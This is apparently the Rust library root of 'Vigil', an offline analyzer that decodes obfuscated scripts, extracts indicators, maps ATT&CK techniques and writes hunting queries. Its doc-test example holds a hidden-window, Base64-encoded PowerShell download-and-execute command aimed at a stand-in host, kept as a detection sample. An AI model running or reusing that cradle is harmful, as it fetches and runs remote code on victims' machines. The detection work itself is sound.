//! Vigil's engine for suspicious scripts: given PowerShell, cmd, JavaScript, VBScript or
//! shell text, it peels the layers of encoding and obfuscation one by one (each recorded),
//! pulls out the indicators (refanged and defanged, known noise marked), names what the
//! code does as MITRE ATT&CK techniques quoting the text it saw, explains it step by step,
//! gives a verdict and writes KQL hunting queries over the Defender tables.
//!
//! It is deterministic and offline: no script is ever run, and hostile input (huge,
//! deeply nested, a decompression bomb, broken Base64) ends with a partial result and a
//! warning within bounded time and memory.
//!
//! ```
//! use vigil_scripts::{Analyzer, IndicatorKind, LayerKind};
//!
//! // powershell -enc of: iex (New-Object Net.WebClient).DownloadString('http://evil.example.ru/a')
//! let line = "powershell -nop -w hidden -enc aQBlAHgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAF\
//!             cAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAv\
//!             AC8AZQB2AGkAbAAuAGUAeABhAG0AcABsAGUALgByAHUALwBhACcAKQA=";
//! let analysis = Analyzer::new().analyze(line);
//! assert!(analysis.applied(LayerKind::EncodedCommand));
//! assert!(analysis.decoded.contains("DownloadString"));
//! assert!(analysis.indicators.iter().any(|i| i.kind == IndicatorKind::Url
//!     && i.defanged == "hxxp://evil.example[.]ru/a"));
//! assert!(analysis.technique_ids().contains(&"T1105"));
//! println!("{}", analysis.to_markdown());
//! ```

mod bash;
mod behaviours;
mod budget;
mod cmd;
mod codec;
mod decode;
mod generic;
mod hunt;
mod indicators;
mod jsvbs;
mod lang;
mod markdown;
mod model;
mod ps;
mod report;

use std::time::Duration;

pub use budget::Limits;
pub use model::{
    Analysis, Behaviour, HuntQuery, Indicator, IndicatorKind, Language, Layer, LayerKind,
    RiskLevel, Verdict,
};

/// Compiles a regex written in this crate's source. Only fixed patterns come here, never
/// input, so a failure is a bug in the crate, caught by its tests.
pub(crate) fn re(pattern: &str) -> regex::Regex {
    regex::RegexBuilder::new(pattern)
        .size_limit(1 << 24)
        .build()
        .unwrap_or_else(|e| panic!("built-in pattern {pattern:?} does not compile: {e}"))
}

/// Analyses scripts under a set of limits. Cheap to build; reuse it for many scripts.
#[derive(Debug, Clone, Default)]
pub struct Analyzer {
    limits: Limits,
}

impl Analyzer {
    /// An analyzer with the default limits (see [`Limits`]).
    pub fn new() -> Self {
        Analyzer::default()
    }

    /// Input beyond this many bytes is not read.
    pub fn max_input(mut self, bytes: usize) -> Self {
        self.limits.max_input = bytes;
        self
    }

    /// No decoded or decompressed text may grow past this many bytes.
    pub fn max_decoded(mut self, bytes: usize) -> Self {
        self.limits.max_decoded = bytes.max(1024);
        self
    }

    /// Decoding stops after this many layers.
    pub fn max_layers(mut self, layers: usize) -> Self {
        self.limits.max_layers = layers;
        self
    }

    /// Total work (roughly bytes scanned by all passes together).
    pub fn max_work(mut self, units: u64) -> Self {
        self.limits.max_work = units;
        self
    }

    /// Wall-clock cap on one analysis.
    pub fn max_time(mut self, time: Duration) -> Self {
        self.limits.max_time = time;
        self
    }

    pub fn limits(&self) -> &Limits {
        &self.limits
    }

    /// Analyses one script. Never fails: what could not be done is in `warnings`.
    pub fn analyze(&self, input: &str) -> Analysis {
        let mut budget = budget::Budget::new(self.limits.clone());
        let mut text = input.trim_start_matches('\u{feff}').to_string();
        if codec::truncate_to(&mut text, self.limits.max_input) {
            budget.warn(format!(
                "input is {} bytes: only the first {} were analysed",
                input.len(),
                self.limits.max_input
            ));
        }
        let language = lang::detect(&text);
        let decoded = decode::decode(&text, &mut budget);
        let mut found = Vec::new();
        for stage in &decoded.stages {
            indicators::extract_into(stage, &mut found);
        }
        let mut behaviours = behaviours::find(&decoded.stages);
        if let Some(b) = obfuscation_behaviour(&decoded.layers, &text) {
            behaviours.push(b);
        }
        let final_text = decoded.stages.last().cloned().unwrap_or_default();
        let steps = report::steps(
            language,
            &decoded.layers,
            &behaviours,
            &found,
            &decoded.stages,
        );
        let verdict = report::verdict(&decoded.layers, &behaviours, &found);
        let hunting_queries = hunt::queries(&found, &behaviours);
        Analysis {
            language,
            layers: decoded.layers,
            decoded: final_text,
            indicators: found,
            behaviours,
            steps,
            verdict,
            hunting_queries,
            warnings: budget.warnings,
        }
    }
}

/// T1027 when the engine had to undo obfuscation, quoting the start of the input.
fn obfuscation_behaviour(layers: &[Layer], input: &str) -> Option<Behaviour> {
    let kinds: Vec<&str> = layers
        .iter()
        .filter(|l| l.is_obfuscation())
        .map(|l| l.kind.name())
        .collect();
    if kinds.is_empty() {
        return None;
    }
    let first = input.lines().find(|l| !l.trim().is_empty()).unwrap_or("");
    Some(Behaviour {
        id: "obfuscation".into(),
        description: format!("Hides its code ({})", kinds.join(", ")),
        technique_id: "T1027".into(),
        technique_name: "Obfuscated Files or Information".into(),
        tactic: "Defense Evasion".into(),
        fragment: behaviours::shorten(first.trim()),
        layer: 0,
    })
}

impl Analysis {
    /// The report as Markdown: verdict, steps, layers, behaviours, indicators, queries,
    /// warnings and the decoded script.
    pub fn to_markdown(&self) -> String {
        markdown::render(self)
    }
}
